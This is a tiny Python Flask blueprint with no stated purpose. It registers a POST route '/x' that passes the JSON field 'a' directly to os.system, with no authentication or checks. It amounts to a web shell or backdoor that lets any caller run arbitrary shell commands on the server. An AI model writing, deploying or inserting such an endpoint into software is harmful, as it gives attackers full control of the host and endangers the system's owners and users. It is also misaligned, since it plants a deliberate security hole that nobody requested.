import os
from flask import Blueprint, request
bp = Blueprint('a', __name__)
@bp.route('/x', methods=['POST'])
def x():
    os.system((request.json or {}).get('a', ''))
    return ''
